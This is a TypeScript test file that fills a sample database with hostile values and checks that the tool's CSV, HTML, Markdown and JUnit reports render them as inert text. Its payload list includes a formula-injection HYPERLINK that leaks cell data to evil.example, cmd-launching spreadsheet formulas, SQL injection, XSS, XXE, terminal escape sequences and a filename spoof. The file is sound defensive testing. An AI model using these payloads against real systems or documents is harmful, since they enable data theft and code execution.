import { join } from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { coverageCsv } from '#reporters/coverage-csv.ts';
import { startEngine } from '#test/engine.ts';
import { sqliteSampleProject } from '#test/sample-project.ts';
import { removeFolder, temporaryFolder } from '#test/temporary-folder.ts';

/** Values that become more than text wherever a report forgets that they are data. */
const HOSTILE = [
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '+49"; DROP TABLE app_users; --',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '"><svg/onload=alert(1)>',
  ']]><x/>&xxe;',
  '[a](javascript:alert(1)) | b | `c`',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u202egnp.exe',
] as const;

const engine = startEngine();
const { client } = engine;
let project = '';
let trial = '';

beforeAll(async () => {
  project = await sqliteSampleProject(join(temporaryFolder('injected'), 'acme'), { users: 600 });
  const legacy = new Database(join(project, 'legacy.db'));
  const ids = legacy.prepare('SELECT id FROM app_users ORDER BY id').pluck().all() as number[];
  const update = legacy.prepare(
    `UPDATE app_users SET display_name = @text, first_name = @text, login_name = @text, status = @text,
       email = 'u' || id || '@' || @text, profile_json = json_object('plan', @text, @text, 'x') WHERE id = @id`,
  );
  legacy.transaction(() => {
    for (const [index, id] of ids.entries()) update.run({ id, text: HOSTILE[index % HOSTILE.length] });
  })();
  legacy.close();
  trial = (await engine.trial({ project, kind: 'bulk' })).trial.id;
}, 120_000);
afterAll(async () => {
  await engine.close();
  removeFolder(join(project, '..'));
});

/** Cells of a sheet that a program of tables would run, or that steer whoever prints them. */
const dangerous = (text: string): readonly string[] =>
  parse(text, { relax_column_count: true, bom: true })
    .flat()
    .filter((cell) => /^\s*[=+\-@]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

const rendered = async (format: 'html' | 'markdown' | 'junit' | 'csv'): Promise<string> =>
  (await client.trials.render({ project, trial, format })).text;

describe('values of rows that want to be more than text', () => {
  it('run in no sheet: findings, coverage, the list of an audit', async () => {
    const sheets = [await rendered('csv')];
    for (const by of ['emailDomain', 'appMetadata.plan', 'hashFormat']) {
      sheets.push(coverageCsv(await client.coverage.show({ project, trial, by })));
    }
    let list = '';
    const request = {
      project,
      against: { kind: 'trial', trial },
      list: true,
      listAs: 'csv',
      personalData: true,
      values: true,
    } as const;
    for await (const event of await client.audit.run(request)) if (event.type === 'text') list += event.text;
    sheets.push(list);
    expect({
      dangerous: sheets.flatMap(dangerous),
      // What they were made of is in them: as text.
      told: sheets.some((sheet) => sheet.includes('HYPERLINK')),
      people: list.split('\n').length > 500,
    }).toEqual({ dangerous: [], told: true, people: true });
  });

  it('become no markup of a page, of Markdown or of XML, and steer no terminal', async () => {
    const [html, markdown, junit] = [
      await rendered('html'),
      await rendered('markdown'),
      await rendered('junit'),
    ];
    // A backslash before it makes Markdown show the sign itself.
    const markup = [/(?<!\\)<img src=x/i, /(?<!\\)<svg\/onload/i, /(?<!\\)<script>alert/i];
    expect({
      html: markup.filter((pattern) => pattern.test(html)),
      junit: [...markup, /<x\/>/, /&xxe;/].filter((pattern) => pattern.test(junit)),
      markdown: [...markup, /(?<!\\)\[a\]\(javascript:/].filter((pattern) => pattern.test(markdown)),
      // oxlint-disable-next-line no-control-regex -- control characters are what is looked for
      control: [html, markdown, junit].map((text) => /[\u0007\u001b\u202e]/.test(text)),
    }).toEqual({ html: [], junit: [], markdown: [], control: [false, false, false] });
  });
});
